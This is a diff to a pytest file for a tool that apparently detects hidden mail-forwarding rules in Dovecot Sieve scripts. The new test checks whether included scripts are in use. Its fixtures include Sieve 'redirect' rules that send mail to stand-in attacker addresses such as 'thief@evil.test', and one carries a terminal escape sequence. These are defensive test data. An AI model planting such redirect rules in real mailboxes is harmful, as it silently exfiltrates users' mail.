@@ -35,6 +35,29 @@ def test_redirects_in_a_script_are_found_and_comments_are_not(tmp_path: Path) ->
     assert [line.split()[-1] for line in rules] == ["thief@evil.test", "second@evil.test", "mailto:phone@evil.test"]
 
 
+@pytest.mark.parametrize(
+    ("include", "used"),
+    [
+        ('include :personal "hidden";', True),
+        ('include "hidden";', True),
+        ('if true { INCLUDE :once :optional "other"; }', True),
+        ('include ["unheard of", "other"];', True),
+        ("include :personal text:\nhidden\n.\n;", True),
+        ('include :global "hidden";', False),
+        ('# include "hidden";', False),
+        ('include "unheard of"; fileinto "hidden";', False),
+    ],
+)
+def test_what_the_active_script_includes_is_in_use(tmp_path: Path, include: str, used: bool) -> None:
+    (tmp_path / "sieve").mkdir()
+    (tmp_path / "sieve/rules.sieve").write_text(f'require ["include"];\n{include}')
+    (tmp_path / "sieve/other.sieve").write_text('include "hidden"; include "rules";')  # round and round
+    (tmp_path / "sieve/hidden.sieve").write_text('redirect "thief@evil.test";')
+    (tmp_path / ".dovecot.sieve").symlink_to("sieve/rules.sieve")
+    (line,) = sessions.redirects(str(tmp_path))
+    assert f"hidden.sieve ({'in use' if used else 'not in use'}) sends" in line
+
+
 def test_a_script_moves_nothing_on_the_screen(tmp_path: Path) -> None:
     (tmp_path / ".dovecot.sieve").write_text('redirect "\x1b[2Jthief@evil.test";')
     (line,) = sessions.redirects(str(tmp_path))
